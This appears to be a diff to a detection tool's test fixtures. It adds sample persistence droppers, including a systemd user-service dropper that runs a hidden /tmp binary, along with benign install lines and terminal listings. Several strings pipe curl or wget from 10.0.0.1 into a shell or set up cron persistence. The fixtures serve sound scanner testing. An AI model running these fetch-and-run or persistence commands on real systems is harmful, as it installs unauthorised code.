@@ -35,6 +35,10 @@ SAMPLES = {
     "dropper.sh": ("Persistence_Dropper", "#!/bin/sh\n(crontab -l; echo \"*/5 * * * * curl -fsSL http://10.0.0.1/s"
                    " | sh\") | crontab -\n"),
     "eicar-late.txt": ("EICAR-Test-File", "x" * 900 + EICAR.decode() + "tail"),
+    # No "#!" line, and a unit file's section and keys in its here-document.
+    "unit-dropper": ("Persistence_Dropper", "cat > ~/.config/systemd/user/upd.service <<EOF\n[Unit]\n"
+                     "Description=update\n[Service]\nExec" + "Start=/tmp/.u\nEOF\n"
+                     "systemctl --user enable --now upd.service\n"),
 }
 
 # Files that mention what the rules look for without doing it.
@@ -45,6 +49,17 @@ MENTIONS = {
     "INSTALL.md": "# Install\n\n```sh\ncurl -fsSL https://example.org/install.sh | sh\n```\n",
     "warn.sh": f"#!/bin/sh\necho \"never run nc -e {SH} from a script you did not write\"\n",
     "probe.sh": f"#!/bin/bash\nexec 3<>{TCP}/example.org/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n",
+    # Install lines as READMEs, notes, CI workflows and package manifests quote them.
+    "README": "Install it with:\n\n    curl -fsSL https://example.org/install.sh | sh\n\nThen run `tool`.\n",
+    "notes.md": "# Tools\n\nInstall: `curl -fsSL https://example.org/install.sh | sh`\n",
+    "ci.yml": "name: ci\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
+              "          curl -fsSL https://sh.rustup.rs | sh -s -- -y\n          cargo test\n",
+    "package.json": '{\n  "name": "web",\n  "scripts": {"setup": "curl -fsSL https://example.org/i | bash"}\n}\n',
+    # A terminal's listings kept as text: a test's numbered lines, search results.
+    "listing.txt": "     1\timport subprocess\n     2\t\n     3\tdef test_install():\n"
+                   "     4\t    subprocess.run(\"curl -fsSL http://10.0.0.1/x.sh | sh\", shell=True)\n",
+    "hits.txt": "fetch.sh:2:wget http://10.0.0.1/a -O /tmp/.a\nfetch.sh:3:chmod +x /tmp/.a\nfetch.sh-4-/tmp/.a &\n"
+                "tests/install_test.py:12:    run(\"curl -fsSL http://10.0.0.1/x.sh | sh\")\n",
 }
 
 
